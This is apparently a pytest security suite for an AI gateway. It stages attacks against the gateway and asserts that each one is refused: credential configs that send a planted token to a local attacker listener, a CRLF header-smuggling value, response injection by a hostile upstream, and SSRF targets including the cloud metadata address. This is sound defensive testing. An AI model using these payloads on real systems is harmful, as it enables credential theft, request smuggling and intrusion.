"""Attacks by a route author on what lies between the gateway and a provider, each performed
against a real ``airoute gateway`` process (issue 14: items 1, 2, 3's send-time half, 7's upstream
bodies, 9). Every test names the attack it performs in ``docs/security.md``'s threat table, and
would fail without the control it checks: the attacker's listener counts what reaches it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from airoute.emulators.credentials import service_account_key
from airoute.emulators.openai_compatible import OpenAICompatibleEmulator
from tests.support.gateway import GatewayFactory, post
from tests.support.routes import airoute, emulated, openai_backend, secret, yaml_text

pytestmark = pytest.mark.sdk

PLANTED_TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YWlyb3V0ZSJ9.planted-sa-token"
CHAT = {"messages": [{"role": "user", "content": "hello"}]}


@dataclass
class Listener:
    """An attacker's HTTP server: records every request it receives."""

    port: int = 0
    seen: list[tuple[str, str, dict[str, str], bytes]] = field(default_factory=list)
    status: int = 200
    body: bytes = b'{"access_token": "x", "expires_in": 3600, "token_type": "Bearer"}'

    async def handle(self, request: web.Request) -> web.Response:
        self.seen.append((request.method, request.path_qs, dict(request.headers), await request.read()))
        return web.Response(status=self.status, body=self.body, content_type="application/json")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def saw(self, text: str) -> bool:
        return any(text in json.dumps(headers) or text.encode() in body for _, _, headers, body in self.seen)


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    found = Listener()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", found.handle)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    found.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    yield found
    await runner.cleanup()


@pytest.fixture
async def healthy() -> AsyncIterator[OpenAICompatibleEmulator]:
    async with OpenAICompatibleEmulator() as emulator:
        yield emulator


async def chat(url: str, model: str) -> tuple[int, dict[str, Any]]:
    async with aiohttp.ClientSession() as session:
        status, body = await post(session, url, {"model": model, **CHAT})
    return status, json.loads(body)


def write(folder: Path, *docs: dict[str, Any]) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "routes.yaml").write_text(yaml_text(docs))
    return folder


async def test_14_1_an_external_account_key_cannot_send_the_gateways_token_away(
        tmp_path: Path, listener: Listener, healthy: OpenAICompatibleEmulator, gateway_process: GatewayFactory) -> None:
    """A tenant's ``key.json`` of type ``external_account`` names the gateway's ServiceAccount token
    as its credential source and the attacker as its token URL; another is a service-account key
    whose ``token_uri`` is the attacker's. The gateway refuses both backends, naming why; the
    attacker receives nothing; the other route keeps answering."""
    token_file = tmp_path / "sa-token"
    token_file.write_text(PLANTED_TOKEN)
    external = json.dumps({"type": "external_account", "audience": "//iam.googleapis.com/x",
                           "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
                           "token_url": f"{listener.url}/steal", "credential_source": {"file": str(token_file)}})
    vertex = {"project": "acme-prod", "location": "europe-west4", "model": "gemini-2.0-flash",
              "endpointURL": listener.url, "insecure": True}

    def backend(secret_name: str) -> dict[str, Any]:
        return {"name": "v", "weight": 100, "vertexAI": vertex | {"credentialsSecretRef": {"name": secret_name}}}

    folder = write(tmp_path / "routes",
                   airoute([backend("ext")], "external"),
                   airoute([backend("sa")], "foreign-token-uri"),
                   airoute([emulated("ok", 100, healthy)], "fine"),
                   secret("ext", {"key.json": external}),
                   secret("sa", {"key.json": service_account_key(f"{listener.url}/token")}))
    gateway = await gateway_process(folder, "--no-auth")
    for model in ("external", "foreign-token-uri"):
        status, answer = await chat(gateway.url, model)
        assert status == 503, answer  # 503 route_unavailable (issue 18.3)
    assert (await chat(gateway.url, "fine"))[0] == 200
    assert listener.seen == [], "nothing reached the attacker"
    logs = gateway.logs()
    assert "only service_account keys are accepted" in logs
    assert "is not Google's (https://oauth2.googleapis.com/token)" in logs
    assert PLANTED_TOKEN not in logs


async def test_14_2_ambient_identity_stays_home(
        tmp_path: Path, listener: Listener, gateway_process: GatewayFactory) -> None:
    """A Bedrock backend without credentialsSecretRef would be signed with the gateway's own AWS
    identity — here, keys in the gateway's environment — and sent to the attacker's endpoint.
    Refused unless the operator opts the namespace in, and then still refused towards a host
    that is not AWS's unless the operator also allows overrides."""
    folder = write(tmp_path / "routes", airoute([{"name": "b", "weight": 100, "bedrock": {
        "region": "eu-central-1", "modelId": "anthropic.claude-3-5-sonnet-20240620-v1:0",
        "endpointURL": listener.url, "insecure": True}}], "ambient"))
    env = {**os.environ, "AWS_ACCESS_KEY_ID": "AKIAGATEWAYIDENTITY1", "AWS_SECRET_ACCESS_KEY": "gateway-own-secret",
           "AWS_EC2_METADATA_DISABLED": "true", "AWS_CONFIG_FILE": "/dev/null",
           "AWS_SHARED_CREDENTIALS_FILE": "/dev/null"}
    default = await gateway_process(folder, "--no-auth", env=env)
    opted_in = await gateway_process(folder, "--no-auth", "--ambient-identity-namespace", "team", env=env)
    for gateway in (default, opted_in):
        assert (await chat(gateway.url, "ambient"))[0] == 503  # 503 route_unavailable (issue 18.3)
    assert listener.seen == []
    assert "namespace 'team' may not use the gateway's own cloud identity" in default.logs()
    assert "only to the provider's own domains" in opted_in.logs()
    both = await gateway_process(folder, "--no-auth", "--ambient-identity-namespace", "team",
                                 "--ambient-identity-overrides", env=env)
    await chat(both.url, "ambient")
    assert listener.saw("AKIAGATEWAYIDENTITY1"), "with both flags the operator chose to send it there"


async def test_14_3_a_secret_header_value_with_a_line_break_is_refused_at_send_time(
        tmp_path: Path, healthy: OpenAICompatibleEmulator, gateway_process: GatewayFactory) -> None:
    """A Secret-sourced header value smuggles a header (and could smuggle a request) into the
    upstream connection: the backend is refused, the upstream never sees it."""
    injected = "tenant-a\r\nX-Smuggled: 1\r\n\r\nPOST /v1/chat/completions HTTP/1.1"
    backend = openai_backend("b", 100, f"{healthy.base_url}/v1", "m", headers=[
        {"name": "X-Tenant", "valueFrom": {"name": "hdr", "key": "value"}}])
    folder = write(tmp_path / "routes", airoute([backend], "smuggler"), airoute([emulated("ok", 100, healthy)], "fine"),
                   secret("hdr", {"value": injected}))
    gateway = await gateway_process(folder, "--no-auth")
    assert (await chat(gateway.url, "smuggler"))[0] == 503  # 503 route_unavailable (issue 18.3)
    assert (await chat(gateway.url, "fine"))[0] == 200
    assert all("X-Smuggled" not in c.headers for c in healthy.captured)
    assert "header X-Tenant: the value holds a line break or NUL" in gateway.logs()


async def test_14_3_pools_are_not_shared_across_credentials(
        tmp_path: Path, healthy: OpenAICompatibleEmulator, gateway_process: GatewayFactory) -> None:
    """Two tenants with their own keys call the same upstream origin: their requests never share a
    connection (a smuggled answer on one tenant's connection cannot reach the other)."""
    docs = []
    for team in ("team-a", "team-b"):
        docs += [airoute([openai_backend("up", 100, f"{healthy.base_url}/v1", "m", secret="key")], team, team),
                 secret("key", {"api-key": f"sk-{team}-0123456789"}, team)]
    gateway = await gateway_process(write(tmp_path / "routes", *docs), "--no-auth")
    for _ in range(3):
        for team in ("team-a", "team-b"):
            assert (await chat(gateway.url, team))[0] == 200
    assert healthy.connections == 2, "one kept-alive connection per tenant, none shared"


async def test_14_3_an_idle_connection_that_receives_bytes_is_closed(
        tmp_path: Path, gateway_process: GatewayFactory) -> None:
    """A hostile upstream answers, then writes a second, unrequested answer on the idle kept-alive
    connection. That connection is closed; the next request gets a genuine answer."""
    genuine = json.dumps({"id": "1", "object": "chat.completion", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": "genuine"}, "finish_reason": "stop"}]}).encode()
    smuggled = genuine.replace(b"genuine", b"SMUGGLED")
    answers = 0

    def response(body: bytes) -> bytes:
        return b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal answers
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
                                  if line.lower().startswith(b"content-length")))
                await reader.readexactly(length)
                answers += 1
                writer.write(response(genuine))
                await writer.drain()
                await asyncio.sleep(0.05)
                writer.write(response(smuggled))  # unrequested
                await writer.drain()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    folder = write(tmp_path / "routes", airoute([openai_backend("up", 100, f"http://127.0.0.1:{port}/v1", "m")],
                                                "hostile"))
    gateway = await gateway_process(folder, "--no-auth")
    contents = []
    for _ in range(3):
        status, answer = await chat(gateway.url, "hostile")
        assert status == 200
        contents.append(answer["choices"][0]["message"]["content"])
        await asyncio.sleep(0.2)  # the unrequested answer arrives while the connection is idle
    server.close()
    assert contents == ["genuine"] * 3
    assert "unexpected bytes" in gateway.logs()


async def test_14_9_loopback_link_local_and_rebinding_targets_are_refused(
        tmp_path: Path, listener: Listener, gateway_process: GatewayFactory) -> None:
    """Backends pointing at the gateway's own loopback, at a name that resolves to it, and at the
    cloud metadata address: nothing is connected to, and the client reads why."""
    folder = write(tmp_path / "routes",
                   airoute([openai_backend("lo", 100, f"{listener.url}/v1", "m")], "loopback"),
                   airoute([openai_backend("name", 100, f"http://localhost:{listener.port}/v1", "m")], "by-name"),
                   airoute([openai_backend("meta", 100, "http://169.254.169.254/latest/meta-data", "m")], "metadata"))
    gateway = await gateway_process(folder, "--no-auth", internal=False)
    for model in ("loopback", "by-name", "metadata"):
        status, answer = await chat(gateway.url, model)
        assert status == 503, answer
        assert "the gateway does not connect to" in answer["error"]["message"]
    assert listener.seen == []


async def test_14_9_upstream_errors_reach_the_client_short_and_scrubbed(
        tmp_path: Path, listener: Listener, gateway_process: GatewayFactory) -> None:
    """An upstream answers a 500 whose body is long and echoes a key; a closed port and an open
    one read the same to the client (no port scanner); the log keeps the detail."""
    listener.status = 500
    listener.body = json.dumps({"error": {"message": "internal error " + "x" * 5000 + " api_key=sk-planted-"
                                          "0123456789abcdefghij " + "y" * 3000}}).encode()
    with contextlib.closing(__import__("socket").socket()) as s:
        s.bind(("127.0.0.1", 0))
        closed = s.getsockname()[1]
    folder = write(tmp_path / "routes",
                   airoute([openai_backend("talky", 100, f"{listener.url}/v1", "m")], "talky"),
                   airoute([openai_backend("closed", 100, f"http://127.0.0.1:{closed}/v1", "m")], "closed"))
    gateway = await gateway_process(folder, "--no-auth")
    status, answer = await chat(gateway.url, "talky")
    message = answer["error"]["message"]
    assert status == 503 and len(message) < 700, message
    assert "sk-planted" not in message and "0123456789abcdefghij" not in message
    status, answer = await chat(gateway.url, "closed")
    assert status == 503 and "cannot connect to the backend" in answer["error"]["message"]
    assert "Connection refused" not in answer["error"]["message"]
    assert "Connection refused" in gateway.logs() or "Connect call failed" in gateway.logs()


async def test_14_7_upstream_answers_and_error_bodies_are_capped(
        tmp_path: Path, listener: Listener, gateway_process: GatewayFactory) -> None:
    """An upstream answers an error with a 1 MiB body: the gateway reads 64 KiB of it and gives up."""
    listener.status = 400
    listener.body = b'{"error": {"message": "' + b"z" * (1024 * 1024) + b'"}}'
    folder = write(tmp_path / "routes", airoute([openai_backend("big", 100, f"{listener.url}/v1", "m")], "big"))
    gateway = await gateway_process(folder, "--no-auth")
    status, answer = await chat(gateway.url, "big")
    assert status == 503 and "larger than 65536 bytes" in answer["error"]["message"]
